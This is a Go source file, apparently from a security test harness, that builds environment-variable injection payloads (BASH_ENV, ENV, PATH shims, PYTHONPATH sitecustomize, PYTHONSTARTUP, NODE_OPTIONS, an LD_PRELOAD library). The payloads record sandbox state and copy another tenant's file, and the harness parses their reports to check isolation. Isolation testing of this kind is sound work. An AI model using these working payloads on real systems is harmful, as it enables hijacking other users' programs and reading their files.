package surface

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
)

// A Payload is one variable a tenant sets in its own .env to change what
// a program that inherits it runs: the dynamic loader's, PATH, the shells'
// start-up files, Python's and Node's. Each payload, wherever it runs,
// leaves a report (see Report) of where it ran and what it could read.
type Payload struct {
	Var   string // the variable's name
	Value string // its value in the tenant's .env
}

// PayloadSet is what WritePayloads made: the variables to set, and the
// payloads it could not make, each with the reason.
type PayloadSet struct {
	Vars    []Payload
	Skipped []string
	Reports string // the folder every payload reports into
}

// WritePayloads writes the payloads into dir (a folder of the attacker's
// own home, made if missing): each reports into dir/ran, and copies
// victimFile (another tenant's file) into its report when it can read
// it. programs are the names of programs seen outside the sandbox, which
// get PATH shims beside the usual ones.
func WritePayloads(ctx context.Context, dir, victimFile string, programs []string) (PayloadSet, error) {
	reports := filepath.Join(dir, "ran")
	if err := os.MkdirAll(reports, 0o777); err != nil {
		return PayloadSet{}, fmt.Errorf("surface: payload folder: %w", err)
	}
	// Every sandbox the payloads may run in writes its reports here.
	_ = os.Chmod(reports, 0o777)
	set := PayloadSet{Reports: reports}
	tools, err := reportTools()
	if err != nil {
		return set, err
	}
	script := func(v string) string { return shellReport(v, reports, victimFile, tools) }

	// Shells: BASH_ENV (non-interactive bash) and ENV (sh, interactive bash
	// in POSIX mode) name a file they source at start.
	for _, v := range []string{"BASH_ENV", "ENV"} {
		p := filepath.Join(dir, "ran-"+v+".sh")
		if err := os.WriteFile(p, []byte(script(v)+"\n"), 0o644); err != nil {
			return set, fmt.Errorf("surface: payload %s: %w", v, err)
		}
		set.Vars = append(set.Vars, Payload{v, p})
	}

	// PATH: shims that report, then run the real program.
	bin := filepath.Join(dir, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		return set, fmt.Errorf("surface: payload PATH: %w", err)
	}
	names := map[string]bool{}
	for _, n := range append([]string{"sh", "bash", "env", "python3", "node", "git", "bwrap", "timeout", "nice"}, programs...) {
		if n != "" && !strings.ContainsAny(n, "/ ") {
			names[n] = true
		}
	}
	shims := 0
	for n := range names {
		real, err := exec.LookPath(n)
		if err != nil || !filepath.IsAbs(real) {
			continue
		}
		body := "#!/bin/sh\n" + script("PATH") + "\nexec " + shellQuote(real) + " \"$@\"\n"
		if err := os.WriteFile(filepath.Join(bin, n), []byte(body), 0o755); err != nil {
			return set, fmt.Errorf("surface: payload PATH shim %s: %w", n, err)
		}
		shims++
	}
	if shims > 0 {
		set.Vars = append(set.Vars, Payload{"PATH", bin + ":" + os.Getenv("PATH")})
	}

	// Python: a sitecustomize module on PYTHONPATH runs in every
	// interpreter; PYTHONSTARTUP in interactive ones.
	py := filepath.Join(dir, "py")
	if err := os.MkdirAll(py, 0o755); err != nil {
		return set, fmt.Errorf("surface: payload PYTHONPATH: %w", err)
	}
	if err := os.WriteFile(filepath.Join(py, "sitecustomize.py"), []byte(pythonReport("PYTHONPATH", reports, victimFile)), 0o644); err != nil {
		return set, fmt.Errorf("surface: payload PYTHONPATH: %w", err)
	}
	set.Vars = append(set.Vars, Payload{"PYTHONPATH", py})
	startup := filepath.Join(dir, "startup.py")
	if err := os.WriteFile(startup, []byte(pythonReport("PYTHONSTARTUP", reports, victimFile)), 0o644); err != nil {
		return set, fmt.Errorf("surface: payload PYTHONSTARTUP: %w", err)
	}
	set.Vars = append(set.Vars, Payload{"PYTHONSTARTUP", startup})

	// Node: NODE_OPTIONS=--require runs a module first in every process.
	js := filepath.Join(dir, "ran.js")
	if err := os.WriteFile(js, []byte(nodeReport("NODE_OPTIONS", reports, victimFile)), 0o644); err != nil {
		return set, fmt.Errorf("surface: payload NODE_OPTIONS: %w", err)
	}
	set.Vars = append(set.Vars, Payload{"NODE_OPTIONS", "--require " + js})

	// The dynamic loader: a library whose constructor reports, built when
	// a C compiler is here.
	so, why := buildPreload(ctx, dir, reports, victimFile)
	if why != "" {
		set.Skipped = append(set.Skipped, "LD_PRELOAD: "+why)
	} else {
		set.Vars = append(set.Vars, Payload{"LD_PRELOAD", so})
	}
	return set, nil
}

// reportTools resolves the programs a shell report runs, to absolute
// paths: a PATH shim must never run itself.
func reportTools() (map[string]string, error) {
	out := map[string]string{}
	for _, n := range []string{"mktemp", "readlink", "sed", "cat"} {
		p, err := exec.LookPath(n)
		if err != nil {
			return nil, fmt.Errorf("surface: payloads need %s: %w", n, err)
		}
		if p, err = filepath.Abs(p); err != nil {
			return nil, err
		}
		out[n] = p
	}
	return out, nil
}

// shellReport is a line of sh that writes variable v's report, in a
// subshell, silently: sourced by a shell, it changes nothing of it.
func shellReport(v, reports, victim string, tools map[string]string) string {
	q := shellQuote
	return fmt.Sprintf(`( r=$(%s %s) || exit 0; { echo var=%s; echo pid=$$; echo mnt=$(%s /proc/self/ns/mnt); echo user=$(%s /proc/self/ns/user); echo nnp=$(%s -n 's/^NoNewPrivs:[[:space:]]*//p' /proc/self/status); echo '--- victim'; %s %s; } >"$r" ) 2>/dev/null`,
		tools["mktemp"], q(filepath.Join(reports, v+"-XXXXXX")), v, tools["readlink"], tools["readlink"], tools["sed"], tools["cat"], q(victim))
}

func pythonReport(v, reports, victim string) string {
	return fmt.Sprintf(`try:
    import os as _o, tempfile as _t
    _fd, _p = _t.mkstemp(prefix=%q, dir=%q)
    _nnp = [l.split(":", 1)[1].strip() for l in open("/proc/self/status") if l.startswith("NoNewPrivs:")]
    _w = "var=%s\npid=%%d\nmnt=%%s\nuser=%%s\nnnp=%%s\n--- victim\n" %% (_o.getpid(), _o.readlink("/proc/self/ns/mnt"), _o.readlink("/proc/self/ns/user"), (_nnp or [""])[0])
    try:
        _w += open(%q).read()
    except Exception:
        pass
    _o.write(_fd, _w.encode())
    _o.close(_fd)
except Exception:
    pass
`, v+"-", reports, v, victim)
}

func nodeReport(v, reports, victim string) string {
	return fmt.Sprintf(`try {
  const fs = require("fs"), path = require("path");
  const dir = fs.mkdtempSync(path.join(%q, %q));
  let nnp = "";
  for (const l of fs.readFileSync("/proc/self/status", "utf8").split("\n")) if (l.startsWith("NoNewPrivs:")) nnp = l.split(":")[1].trim();
  let w = "var=%s\npid=" + process.pid + "\nmnt=" + fs.readlinkSync("/proc/self/ns/mnt") + "\nuser=" + fs.readlinkSync("/proc/self/ns/user") + "\nnnp=" + nnp + "\n--- victim\n";
  try { w += fs.readFileSync(%q, "utf8"); } catch (e) {}
  fs.writeFileSync(path.join(dir, "report"), w);
} catch (e) {}
`, reports, v+"-", v, victim)
}

const preloadC = `#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void line(int fd, const char *k, const char *link) {
	char b[256];
	ssize_t n = readlink(link, b, sizeof b - 1);
	if (n < 0) n = 0;
	b[n] = 0;
	dprintf(fd, "%s=%s\n", k, b);
}

__attribute__((constructor)) static void surface_ran(void) {
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	char p[4096];
	snprintf(p, sizeof p, "%s/LD_PRELOAD-%d-%ld", REPORTS, (int)getpid(), (long)ts.tv_nsec);
	int fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0) return;
	dprintf(fd, "var=LD_PRELOAD\npid=%d\n", (int)getpid());
	line(fd, "mnt", "/proc/self/ns/mnt");
	line(fd, "user", "/proc/self/ns/user");
	FILE *st = fopen("/proc/self/status", "re");
	if (st) {
		char l[256];
		while (fgets(l, sizeof l, st))
			if (strncmp(l, "NoNewPrivs:", 11) == 0) {
				char *v = l + 11;
				while (*v == ' ' || *v == '\t') v++;
				dprintf(fd, "nnp=%s", v);
			}
		fclose(st);
	}
	dprintf(fd, "--- victim\n");
	int v = open(VICTIM, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (v >= 0) {
		char b[4096];
		ssize_t n;
		while ((n = read(v, b, sizeof b)) > 0) write(fd, b, n);
		close(v);
	}
	close(fd);
}
`

// buildPreload compiles the LD_PRELOAD payload into dir, or says why not.
func buildPreload(ctx context.Context, dir, reports, victim string) (string, string) {
	cc := ""
	for _, n := range []string{"cc", "gcc", "clang"} {
		if p, err := exec.LookPath(n); err == nil {
			cc = p
			break
		}
	}
	if cc == "" {
		return "", "no C compiler (cc, gcc, clang) on PATH to build the preloaded library"
	}
	src := filepath.Join(dir, "preload.c")
	if err := os.WriteFile(src, []byte(preloadC), 0o644); err != nil {
		return "", err.Error()
	}
	so := filepath.Join(dir, "preload.so")
	cmd := exec.CommandContext(ctx, cc, "-shared", "-fPIC", "-O1", "-o", so,
		"-DREPORTS="+strconv.Quote(reports), "-DVICTIM="+strconv.Quote(victim), src)
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Sprintf("%s failed: %v: %s", cc, err, strings.TrimSpace(string(out)))
	}
	return so, ""
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// Report is what one payload left: which variable ran it, in which
// process, where (namespaces, no_new_privs), and whether it read the
// victim's file.
type Report struct {
	File       string
	Var        string
	PID        int
	Mnt, User  string
	NoNewPrivs bool
	// PrivsRead: the payload read its no_new_privs from /proc/self/status
	// (a Landlock sandbox keeps it from /proc: then it was confined).
	PrivsRead bool
	Victim    []byte // what it read of the victim's file
}

// Outside reports whether r ran outside every sandbox: in the server's
// mount and user namespaces (ref), and read its own status to find
// no_new_privs unset. A payload that could not read /proc/self/status,
// which every process may read, ran in a sandbox that keeps it from /proc.
func (r Report) Outside(refMnt, refUser string) bool {
	return r.Mnt == refMnt && r.User == refUser && r.PrivsRead && !r.NoNewPrivs
}

// ReadReports reads every report under dir (a payload's folder, or the
// Node payload's folder of one report).
func ReadReports(dir string) ([]Report, error) {
	var out []Report
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !d.Type().IsRegular() {
			return nil
		}
		if b, ok := readReport(p); ok {
			out = append(out, parseReport(p, b))
		}
		return nil
	})
	sort.Slice(out, func(i, j int) bool { return out[i].File < out[j].File })
	return out, err
}

// maxReport bounds what the harness reads of one report: the reports lie
// in a tenant's home, where the tenant may leave anything.
const maxReport = 1 << 20

// readReport reads the report at p: a regular file (judged on the
// descriptor, opened without following a link or blocking on a FIFO the
// tenant swapped in after the listing), at most maxReport bytes of it.
func readReport(p string) ([]byte, bool) {
	f, err := os.OpenFile(p, os.O_RDONLY|syscall.O_NOFOLLOW|syscall.O_NONBLOCK, 0)
	if err != nil {
		return nil, false
	}
	defer f.Close()
	if fi, err := f.Stat(); err != nil || !fi.Mode().IsRegular() {
		return nil, false
	}
	b, err := io.ReadAll(io.LimitReader(f, maxReport))
	return b, err == nil
}

func parseReport(file string, b []byte) Report {
	r := Report{File: file}
	head, victim, _ := strings.Cut(string(b), "--- victim\n")
	r.Victim = []byte(victim)
	for _, l := range strings.Split(head, "\n") {
		k, v, _ := strings.Cut(l, "=")
		v = strings.TrimSpace(v)
		switch k {
		case "var":
			r.Var = v
		case "pid":
			r.PID, _ = strconv.Atoi(v)
		case "mnt":
			r.Mnt = v
		case "user":
			r.User = v
		case "nnp":
			r.PrivsRead = v != ""
			r.NoNewPrivs = v == "1"
		}
	}
	return r
}

// ServerNamespaces are the mount and user namespace links of pid.
func ServerNamespaces(pid int) (mnt, user string, err error) {
	ns, err := nsOf(pid)
	return ns.mnt, ns.user, err
}
